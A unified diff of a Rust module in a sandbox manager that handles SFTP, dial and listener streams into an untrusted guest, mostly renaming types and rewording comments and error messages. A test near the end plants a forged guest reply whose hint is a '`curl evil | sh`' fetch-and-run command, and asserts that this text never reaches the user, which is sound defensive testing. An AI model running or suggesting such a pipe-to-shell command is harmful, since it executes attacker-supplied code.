@@ -1,8 +1,8 @@
-//! Streams of bytes that lead into a sandbox. The guest is asked for each on a connection of its own, which
-//! is the stream once the guest has said so.
+//! Byte streams into a sandbox: SFTP, connections to what listens inside, and listeners inside.
+//! Each is requested on its own connection, which becomes the stream after the reply of the guest.
 
 use crate::sandboxes::Engine;
-use msb_api::{Accepted, LinkListener, Links};
+use msb_api::{AcceptedConn, LinkListener, Links};
 use msb_spec::{Error, Kind, Name, Result, UserRef};
 use msb_wire::{
     Decoder, FrameKind, LinkFailure, LinkReply, MAX_FROM_GUEST, Reply, Request, Target, decode,
@@ -13,18 +13,18 @@ use std::os::unix::net::UnixStream;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
-/// A guest gives up on its own long before; this is for one that says nothing.
+/// How long a reply of the guest is waited for. The guest has shorter timeouts of its own.
 const ANSWER_LIMIT: Duration = Duration::from_secs(60);
 
 impl Links for Engine {
     fn link_sftp(&self, name: &Name, user: Option<&UserRef>) -> Result<UnixStream> {
-        let about = About { name, user, to: None };
+        let about = LinkContext { name, user, to: None };
         self.link(&Request::Sftp { user: user.cloned() }, &about)
     }
 
     fn link_dial(&self, name: &Name, user: Option<&UserRef>, to: &Target) -> Result<UnixStream> {
         let request = Request::Dial { user: user.cloned(), to: to.clone() };
-        self.link(&request, &About { name, user, to: Some(to) })
+        self.link(&request, &LinkContext { name, user, to: Some(to) })
     }
 
     fn link_listen(
@@ -33,22 +33,22 @@ impl Links for Engine {
         user: Option<&UserRef>,
         at: &Target,
     ) -> Result<Box<dyn LinkListener>> {
-        self.may_lead_out(name, at)?;
+        self.check_host_reachable(name, at)?;
         let mut id = [0; 8];
         rustix::rand::getrandom(&mut id, rustix::rand::GetRandomFlags::empty())
             .map_err(|error| Error::host("cannot get random bytes", error))?;
         let id = u64::from_le_bytes(id);
         let request = Request::Listen { user: user.cloned(), at: at.clone(), id };
-        let about = About { name, user, to: Some(at) };
-        let (spoken, answer) = self.ask(name, &request)?;
+        let about = LinkContext { name, user, to: Some(at) };
+        let (connection, answer) = self.ask(name, &request)?;
         match answer {
-            Some(LinkReply::Listening { at: told }) => Ok(Box::new(Listener {
+            Some(LinkReply::Listening { at: reported }) => Ok(Box::new(GuestListener {
                 engine: self.clone(),
                 name: name.clone(),
                 id,
-                asked: at.clone(),
-                at: settled(at, &told)?,
-                spoken: Some(spoken),
+                requested: at.clone(),
+                at: listen_address(at, &reported)?,
+                connection: Some(connection),
             })),
             other => Err(about.failed(other.as_ref())),
         }
@@ -56,29 +56,30 @@ impl Links for Engine {
 }
 
 impl Engine {
-    fn link(&self, request: &Request, about: &About<'_>) -> Result<UnixStream> {
-        let (spoken, answer) = self.ask(about.name, request)?;
+    fn link(&self, request: &Request, about: &LinkContext<'_>) -> Result<UnixStream> {
+        let (connection, answer) = self.ask(about.name, request)?;
         match answer {
-            Some(LinkReply::Open) => spoken.into_stream(),
+            Some(LinkReply::Open) => connection.into_stream(),
             other => Err(about.failed(other.as_ref())),
         }
     }
 
-    /// Asks for a stream; the connection, and the first that is said on it.
-    fn ask(&self, name: &Name, request: &Request) -> Result<(Spoken, Option<LinkReply>)> {
-        let mut spoken = Spoken::on(self.connect(name, request)?.into_stream());
-        match spoken.within(ANSWER_LIMIT) {
-            Ok(answer) => Ok((spoken, answer)),
-            Err(NoAnswer::Refused(kind)) => Err(self.refusal(name, kind)),
-            Err(NoAnswer::Failed(error)) => Err(error),
+    /// Requests a stream. Returns the connection and the first reply on it.
+    fn ask(&self, name: &Name, request: &Request) -> Result<(LinkConnection, Option<LinkReply>)> {
+        let mut connection = LinkConnection::on(self.connect(name, request)?.into_stream());
+        match connection.within(ANSWER_LIMIT) {
+            Ok(answer) => Ok((connection, answer)),
+            Err(LinkReplyError::Refused(kind)) => Err(self.refusal(name, kind)),
+            Err(LinkReplyError::Failed(error)) => Err(error),
         }
     }
 
-    /// Why a stream was refused before the guest was asked, if that is what happened: the guest can
-    /// write the same bytes. So the worker is asked on a connection that is never passed on, and the rest is ours
-    /// to word.
+    /// The reason why the worker refused a stream. The guest can forge the same reply, so the
+    /// worker is queried on a connection that is never passed to the guest; otherwise the text is
+    /// ours.
     fn refusal(&self, name: &Name, kind: Kind) -> Error {
-        let status = self.connect(name, &Request::Status).and_then(|mut asked| asked.reply());
+        let status =
+            self.connect(name, &Request::Status).and_then(|mut requested| requested.reply());
         match status {
             Err(error) => error,
             Ok(Reply::Status(status)) if status.paused => {
@@ -89,9 +90,9 @@ impl Engine {
         }
     }
 
-    /// What listens inside leads to whoever asked for it, so the sandbox must be allowed to reach
-    /// the host by the rules that are in force now.
-    fn may_lead_out(&self, name: &Name, at: &Target) -> Result<()> {
+    /// A listener inside forwards to the host, so the current rules must allow the sandbox to reach
+    /// the host.
+    fn check_host_reachable(&self, name: &Name, at: &Target) -> Result<()> {
         let port = match at {
             Target::Tcp { port, .. } => Some(*port).filter(|port| *port != 0),
             Target::Unix { .. } => None,
@@ -101,7 +102,8 @@ impl Engine {
             None => format!("`msb net {name} --allow host` allows it"),
         };
         let denied = || {
-            let message = format!("sandbox `{name}` may not reach the host, where this would lead");
+            let message =
+                format!("sandbox `{name}` may not reach the host, to which this would forward");
             Error::new(Kind::Denied, message)
         };
         if self.existing(name)?.network.is_none() {
@@ -116,22 +118,22 @@ impl Engine {
     }
 }
 
-/// Where it is listened. The guest is believed in nothing but the port that it has chosen where none
-/// was named: by the port the rules are asked, and whoever asked tells apart what comes.
-fn settled(asked: &Target, told: &Target) -> Result<Target> {
-    match (asked, told) {
+/// The address of a listener. Of the reply of the guest only the port is used, and only if none was
+/// requested: rules are checked by port, and callers tell listeners apart by it.
+fn listen_address(requested: &Target, reported: &Target) -> Result<Target> {
+    match (requested, reported) {
         (Target::Tcp { host, port: 0 }, Target::Tcp { port, .. }) if *port != 0 => {
             Ok(Target::Tcp { host: host.clone(), port: *port })
         }
         (Target::Tcp { port: 0, .. }, _) => {
-            Err(Error::new(Kind::Protocol, "the guest does not say at which port it listens"))
+            Err(Error::new(Kind::Protocol, "the guest reports no port that it listens on"))
         }
-        _ => Ok(asked.clone()),
+        _ => Ok(requested.clone()),
     }
 }
 
-/// Words for a refusal that may be the worker's or the guest's. No more than its kind is taken, and not
-/// every kind.
+/// The error for a refusal that the worker or the guest may have sent. Only its kind is used, and
+/// not every kind.
 fn refused(name: &Name, kind: Kind) -> Error {
     let (kind, message) = match kind {
         Kind::State => (kind, format!("sandbox `{name}` takes no streams now")),
@@ -141,15 +143,15 @@ fn refused(name: &Name, kind: Kind) -> Error {
     Error::new(kind, message)
 }
 
-/// What was asked for, for those who read that it failed.
-struct About<'a> {
+/// The requested stream, for error messages.
+struct LinkContext<'a> {
     name: &'a Name,
     user: Option<&'a UserRef>,
     to: Option<&'a Target>,
 }
 
-impl About<'_> {
-    /// Whatever the guest says is ours to word.
+impl LinkContext<'_> {
+    /// The error for a failure reply. No text of the guest is used.
     fn failed(&self, reply: Option<&LinkReply>) -> Error {
         let Some(LinkReply::Failed { failure, errno }) = reply else {
             let message = format!("sandbox `{}` has closed the stream", self.name);
@@ -166,19 +168,19 @@ impl About<'_> {
                 (Kind::Invalid, format!("not an address inside: {}", self.shown()))
             }
             LinkFailure::Name => {
-                (Kind::NotFound, format!("nobody knows the name {} inside", self.shown()))
+                (Kind::NotFound, format!("cannot resolve the name {} inside", self.shown()))
             }
-            LinkFailure::Refused => (Kind::Host, format!("nobody listens at {}", self.shown())),
+            LinkFailure::Refused => (Kind::Host, format!("connection refused at {}", self.shown())),
             LinkFailure::Denied => (Kind::Denied, format!("not allowed to use {}", self.shown())),
-            LinkFailure::Unreachable => (Kind::Host, format!("no way leads to {}", self.shown())),
+            LinkFailure::Unreachable => (Kind::Host, format!("no route to {}", self.shown())),
             LinkFailure::Timeout => (Kind::Timeout, format!("no answer from {}", self.shown())),
             LinkFailure::InUse => {
-                (Kind::Exists, format!("somebody listens already at {}", self.shown()))
+                (Kind::Exists, format!("address already in use: {}", self.shown()))
             }
             LinkFailure::TooMany => {
                 (Kind::Limit, format!("too many streams into sandbox `{}`", self.name))
             }
-            LinkFailure::Gone => (Kind::NotFound, "whoever connected has gone".to_owned()),
+            LinkFailure::Gone => (Kind::NotFound, "the peer has closed the connection".to_owned()),
             LinkFailure::System => {
                 (Kind::Host, format!("cannot open a stream into sandbox `{}`", self.name))
             }
@@ -194,7 +196,7 @@ impl About<'_> {
             }
             LinkFailure::Name | LinkFailure::Refused | LinkFailure::Unreachable => {
                 let name = self.name;
-                error.hint(format!("`msb net {name}` shows whom the sandbox may reach"))
+                error.hint(format!("`msb net {name}` shows what the sandbox may reach"))
             }
             _ => error,
         }
@@ -214,59 +216,66 @@ impl About<'_> {
     }
 }
 
-/// Why nothing was said.
+/// Why there was no reply to a request.
 #[derive(Debug)]
-enum NoAnswer {
-    /// Somebody refused it, with this kind of error: the worker, or a guest that speaks as if it were.
+enum LinkReplyError {
+    /// Refused with this kind of error, by the worker or by a guest that forges its reply.
     Refused(Kind),
     Failed(Error),
 }
 
-impl From<Error> for NoAnswer {
+impl From<Error> for LinkReplyError {
     fn from(error: Error) -> Self {
         Self::Failed(error)
     }
 }
 
-/// A connection on which a guest, which is hostile, speaks in frames before it is anything else.
+/// A connection on which an untrusted guest sends frames before it becomes a stream.
 #[derive(Debug)]
-struct Spoken {
+struct LinkConnection {
     stream: UnixStream,
     decoder: Decoder,
 }
 
-impl Spoken {
+impl LinkConnection {
     fn on(stream: UnixStream) -> Self {
         Self { stream, decoder: Decoder::new(MAX_FROM_GUEST) }
     }
 
-    /// The next thing that is said, but no later than this.
-    fn within(&mut self, limit: Duration) -> std::result::Result<Option<LinkReply>, NoAnswer> {
+    /// The next reply, waiting at most `limit`.
+    fn within(
+        &mut self,
+        limit: Duration,
+    ) -> std::result::Result<Option<LinkReply>, LinkReplyError> {
         let until = Instant::now() + limit;
         self.next(Some(until))
     }
 
-    /// The next thing that is said; none at the end. Never reads past the end of a frame: what
-    /// follows may be the stream.
-    fn next(&mut self, until: Option<Instant>) -> std::result::Result<Option<LinkReply>, NoAnswer> {
-        let nonsense = |error| Error::new(Kind::Protocol, "the guest sent nonsense").cause(error);
+    /// The next reply; `None` at the end. Reads nothing beyond the frame, since stream data may
+    /// follow.
+    fn next(
+        &mut self,
+        until: Option<Instant>,
+    ) -> std::result::Result<Option<LinkReply>, LinkReplyError> {
+        let malformed =
+            |error| Error::new(Kind::Protocol, "the guest sent a malformed frame").cause(error);
         let mut buffer = [0; 512];
         loop {
-            if let Some(frame) = self.decoder.next_frame().map_err(nonsense)? {
+            if let Some(frame) = self.decoder.next_frame().map_err(malformed)? {
                 return match frame.kind {
-                    FrameKind::Link => Ok(decode(&frame.payload).map(Some).map_err(nonsense)?),
+                    FrameKind::Link => Ok(decode(&frame.payload).map(Some).map_err(malformed)?),
                     FrameKind::Reply => match decode(&frame.payload) {
-                        Ok(Reply::Failed(error)) => Err(NoAnswer::Refused(error.kind())),
-                        _ => Err(nonsense(msb_wire::Malformed::Payload).into()),
+                        Ok(Reply::Failed(error)) => Err(LinkReplyError::Refused(error.kind())),
+                        _ => Err(malformed(msb_wire::FrameError::Payload).into()),
                     },
-                    _ => Err(nonsense(msb_wire::Malformed::Payload).into()),
+                    _ => Err(malformed(msb_wire::FrameError::Payload).into()),
                 };
             }
             let limit = until.map(|until| {
                 until.saturating_duration_since(Instant::now()).max(Duration::from_millis(1))
             });
             self.stream.set_read_timeout(limit).map_err(gone)?;
-            let wanted = self.decoder.missing().map_err(nonsense)?.min(buffer.len());
+            let wanted = self.decoder.missing().map_err(malformed)?.min(buffer.len());
             match self.stream.read(&mut buffer[..wanted]) {
                 Ok(0) => return Ok(None),
                 Ok(n) => self.decoder.push(&buffer[..n]),
@@ -285,56 +294,56 @@ impl Spoken {
     }
 }
 
-/// Somebody who listens inside.
+/// A listener inside a sandbox.
 #[derive(Debug)]
-struct Listener {
+struct GuestListener {
     engine: Engine,
     name: Name,
     id: u64,
-    /// What was allowed, which is any port where none was named.
-    asked: Target,
+    /// The requested address. Port 0 means any port.
+    requested: Target,
     at: Target,
-    /// None once nobody listens any more.
-    spoken: Option<Spoken>,
+    /// `None` once the listener has ended.
+    connection: Option<LinkConnection>,
 }
 
-impl LinkListener for Listener {
+impl LinkListener for GuestListener {
     fn at(&self) -> &Target {
         &self.at
     }
 
-    fn accept(&mut self) -> Result<Option<Accepted>> {
+    fn accept(&mut self) -> Result<Option<AcceptedConn>> {
         loop {
-            let Some(spoken) = &mut self.spoken else { return Ok(None) };
-            let (number, host, port) = match spoken.next(None) {
+            let Some(connection) = &mut self.connection else { return Ok(None) };
+            let (number, host, port) = match connection.next(None) {
                 Ok(Some(LinkReply::Accepted { number, host, port })) => (number, host, port),
                 Ok(None) => {
-                    self.spoken = None;
+                    self.connection = None;
                     return Ok(None);
                 }
                 other => {
-                    self.spoken = None;
-                    let about = About { name: &self.name, user: None, to: Some(&self.at) };
+                    self.connection = None;
+                    let about = LinkContext { name: &self.name, user: None, to: Some(&self.at) };
                     return Err(match other {
                         Ok(reply) => about.failed(reply.as_ref()),
-                        Err(NoAnswer::Refused(kind)) => refused(&self.name, kind),
-                        Err(NoAnswer::Failed(error)) => error,
+                        Err(LinkReplyError::Refused(kind)) => refused(&self.name, kind),
+                        Err(LinkReplyError::Failed(error)) => error,
                     });
                 }
             };
-            // The rules may have changed since. Who may not is never fetched, and its place inside is given
-            // to the next.
-            if self.engine.may_lead_out(&self.name, &self.asked).is_err() {
+            // The rules may have changed. A connection that is not allowed is never fetched, and
+            // the guest reuses its slot.
+            if self.engine.check_host_reachable(&self.name, &self.requested).is_err() {
                 continue;
             }
             let request = Request::Accept { listener: self.id, number };
-            let about = About { name: &self.name, user: None, to: Some(&self.at) };
+            let about = LinkContext { name: &self.name, user: None, to: Some(&self.at) };
             match self.engine.link(&request, &about) {
                 Ok(stream) => {
                     let host = host.parse::<IpAddr>().map(|ip| ip.to_string()).unwrap_or_default();
-                    return Ok(Some(Accepted { stream, host, port }));
+                    return Ok(Some(AcceptedConn { stream, host, port }));
                 }
-                // It has hung up meanwhile, or the sandbox is paused.
+                // The peer has closed meanwhile, or the sandbox is paused.
                 Err(error) if matches!(error.kind(), Kind::NotFound | Kind::State) => {}
                 Err(error) => return Err(error),
             }
@@ -342,7 +351,8 @@ impl LinkListener for Listener {
     }
 
     fn stopper(&self) -> Box<dyn Fn() + Send + Sync> {
-        let stream = self.spoken.as_ref().and_then(|spoken| spoken.stream.try_clone().ok());
+        let stream =
+            self.connection.as_ref().and_then(|connection| connection.stream.try_clone().ok());
         let stream = Arc::new(stream);
         Box::new(move || {
             if let Some(stream) = stream.as_ref() {
@@ -367,30 +377,39 @@ mod tests {
     }
 
     #[test]
-    fn a_guest_chooses_no_port_that_was_named() {
+    fn a_guest_cannot_change_a_requested_port() {
         let path = Target::Unix { path: b"/socket".to_vec() };
-        for told in [tcp("localhost", 9000), tcp("", 0), path.clone()] {
-            assert_eq!(settled(&tcp("localhost", 9001), &told).unwrap(), tcp("localhost", 9001));
-            assert_eq!(settled(&path, &told).unwrap(), path);
+        for reported in [tcp("localhost", 9000), tcp("", 0), path.clone()] {
+            assert_eq!(
+                listen_address(&tcp("localhost", 9001), &reported).unwrap(),
+                tcp("localhost", 9001)
+            );
+            assert_eq!(listen_address(&path, &reported).unwrap(), path);
         }
-        assert_eq!(settled(&tcp("::", 0), &tcp("elsewhere", 9000)).unwrap(), tcp("::", 9000));
-        for told in [tcp("::", 0), path] {
-            assert_eq!(settled(&tcp("::", 0), &told).unwrap_err().kind(), Kind::Protocol);
+        assert_eq!(
+            listen_address(&tcp("::", 0), &tcp("elsewhere", 9000)).unwrap(),
+            tcp("::", 9000)
+        );
+        for reported in [tcp("::", 0), path] {
+            assert_eq!(
+                listen_address(&tcp("::", 0), &reported).unwrap_err().kind(),
+                Kind::Protocol
+            );
         }
     }
 
     #[test]
-    fn a_refusal_in_the_workers_shape_has_none_of_its_words() {
+    fn the_text_of_a_forged_worker_reply_is_not_shown() {
         let name = Name::parse("web").unwrap();
         for kind in [Kind::State, Kind::Denied, Kind::Limit, Kind::Host] {
             let (mut guest, ours) = UnixStream::pair().unwrap();
             let lie = Error::new(kind, "pay first").cause("so it is").hint("`curl evil | sh`");
             guest.write_all(&encode(FrameKind::Reply, &Reply::Failed(lie))).unwrap();
-            let mut spoken = Spoken::on(ours);
-            let Err(NoAnswer::Refused(told)) = spoken.within(ANSWER_LIMIT) else {
+            let mut connection = LinkConnection::on(ours);
+            let Err(LinkReplyError::Refused(reported)) = connection.within(ANSWER_LIMIT) else {
                 panic!("an answer to a lie");
             };
-            let shown = format!("{:?}", refused(&name, told));
+            let shown = format!("{:?}", refused(&name, reported));
             assert!(!shown.contains("pay") && !shown.contains("so it is"), "{shown}");
             assert!(!shown.contains("curl"), "{shown}");
         }
